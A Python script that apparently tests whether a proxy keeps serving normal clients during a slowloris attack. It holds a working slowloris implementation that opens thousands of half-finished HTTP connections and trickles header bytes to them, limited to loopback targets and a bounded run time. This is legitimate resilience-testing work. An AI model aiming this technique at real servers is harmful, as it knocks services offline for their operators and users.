#!/usr/bin/env python3
"""Slowloris against a proxy on loopback, while a normal client is served.

Opens --conns connections that each send an unfinished request head and
then one more header byte every --trickle seconds (the classic slowloris),
holds them for --hold seconds, and meanwhile makes --requests sequential
normal requests (fresh connection each, like curl), timing each. Prints the
normal client's statuses and latency (median, p90, max), before and during
the attack, and how many slow connections the server still held at the end.
Loopback only; bounded in count and time; stops by itself.
"""
import argparse
import socket
import statistics
import sys
import threading
import time


def normal_requests(host, port, n, host_header):
    req = f"GET /slowloris-check HTTP/1.1\r\nHost: {host_header}\r\nConnection: close\r\n\r\n".encode()
    statuses, lat = {}, []
    for _ in range(n):
        t0 = time.perf_counter()
        status = "error"
        try:
            s = socket.create_connection((host, port), timeout=10)
            s.sendall(req)
            data = b""
            while True:
                b = s.recv(65536)
                if not b:
                    break
                data += b
            s.close()
            parts = data.split(b" ", 2)
            if len(parts) >= 2 and parts[0].startswith(b"HTTP/1."):
                status = parts[1].decode()
        except OSError as e:
            status = f"error:{e.__class__.__name__}"
        lat.append((time.perf_counter() - t0) * 1000)
        statuses[status] = statuses.get(status, 0) + 1
    return statuses, lat


def report(label, statuses, lat):
    lat = sorted(lat)
    p90 = lat[int(len(lat) * 0.9) - 1] if lat else 0
    print(f"{label}: {len(lat)} requests, statuses {statuses}, "
          f"latency median {statistics.median(lat):.2f} ms, p90 {p90:.2f} ms, max {lat[-1]:.2f} ms")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--host-header", default="example.org")
    ap.add_argument("--conns", type=int, default=5000)
    ap.add_argument("--hold", type=float, default=30.0)
    ap.add_argument("--trickle", type=float, default=5.0)
    ap.add_argument("--requests", type=int, default=200)
    a = ap.parse_args()
    if a.host not in ("127.0.0.1", "localhost", "::1"):
        sys.exit("slowloris.py: loopback targets only")

    st, lat = normal_requests(a.host, a.port, a.requests, a.host_header)
    report("baseline (no attack)", st, lat)

    slow = []
    t0 = time.time()
    head = f"GET / HTTP/1.1\r\nHost: {a.host_header}\r\n".encode()
    for i in range(a.conns):
        try:
            s = socket.create_connection((a.host, a.port), timeout=5)
            s.sendall(head)
            s.setblocking(False)
            slow.append(s)
        except OSError as e:
            print(f"slow connection {i} failed: {e}")
            break
    print(f"opened {len(slow)} slow connections in {time.time() - t0:.1f} s")

    stop = threading.Event()
    sent = [0]

    def trickle():
        # One more header byte per connection every `trickle` seconds.
        while not stop.wait(a.trickle):
            for s in slow:
                try:
                    s.send(b"X")
                    sent[0] += 1
                except OSError:
                    pass

    th = threading.Thread(target=trickle, daemon=True)
    th.start()
    time.sleep(min(2.0, a.hold / 4))
    st, lat = normal_requests(a.host, a.port, a.requests, a.host_header)
    report(f"during attack ({len(slow)} slow connections)", st, lat)
    left = a.hold - (time.time() - t0)
    if left > 0:
        time.sleep(left)
    stop.set()
    th.join()

    open_, answered = 0, {}
    for s in slow:
        try:
            b = s.recv(4096)
            if b:
                code = b.split(b" ", 2)[1].decode() if b.startswith(b"HTTP/1.") else "?"
                answered[code] = answered.get(code, 0) + 1
        except BlockingIOError:
            open_ += 1
        except OSError:
            pass
    print(f"after {time.time() - t0:.0f} s: {open_} slow connections still held open by the server, "
          f"answered (and closed) {answered}; {sent[0]} trickle bytes sent")
    for s in slow:
        s.close()
    ok = st.get("200", 0) == a.requests
    print("RESULT:", "normal client fully served during the attack" if ok else "normal client NOT fully served")
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()
